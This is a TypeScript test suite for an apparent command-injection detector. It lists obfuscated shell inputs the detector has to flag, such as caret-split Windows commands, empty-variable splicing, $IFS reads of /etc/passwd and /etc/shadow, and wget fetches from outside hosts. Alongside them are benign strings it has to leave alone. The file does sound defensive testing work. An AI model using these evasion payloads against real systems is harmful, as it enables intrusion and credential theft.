import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { decodeValue } from '../../../src/threat/decode/normalize.js';
import { detectCmdi } from '../../../src/threat/detectors/cmdi.js';

const score = (s: string) => detectCmdi(decodeValue(s)).confidence;
const flags = (list: string[]) => { for (const a of list) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`)); };
const leaves = (list: string[]) => { for (const b of list) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`)); };

describe('command words spliced with syntax that expands to nothing', () => {
  describe('cmd.exe caret escapes', () => {
    flags(['who^ami', 'x & net^stat -an', 'ip^config /all', 'n^et user']);
    leaves(['x^2 + y^2', 'E = mc^2', 'a^b', '2^10 bytes', 'caret^ at the end']);
  });
  describe('unset variables and special parameters', () => {
    flags(['una${x}me -a', 'x; who$zzami', 'w${q}get http://203.0.113.5/a', ';c$-at /etc/hosts', 'x|c$_at /etc/group', 'id;who$1ami', 'a&&w$$get http://x.example/y']);
    leaves(['US$100 for two', 'price$5', 'user$id=3', 'cost: $5 each', 'a$b$c']);
  });
  describe('$IFS stays a separator', () => {
    flags(['cat$IFS/etc/passwd', ';cat${IFS}/etc/shadow']);
  });
  describe('empty process substitutions and arithmetic literals', () => {
    flags(['wh<()oami', ';nets>()tat -an', 'base$((64)) -d /tmp/p', '$((7))z a out.7z /etc']);
    leaves(['total: $((a+b))', 'f(<()>)']);
  });
  describe("ANSI-C quoting $'…'", () => {
    flags(["$'uname' -a", "; $'uname' -a"]);
    leaves(["it's $'5' off"]);
  });
});
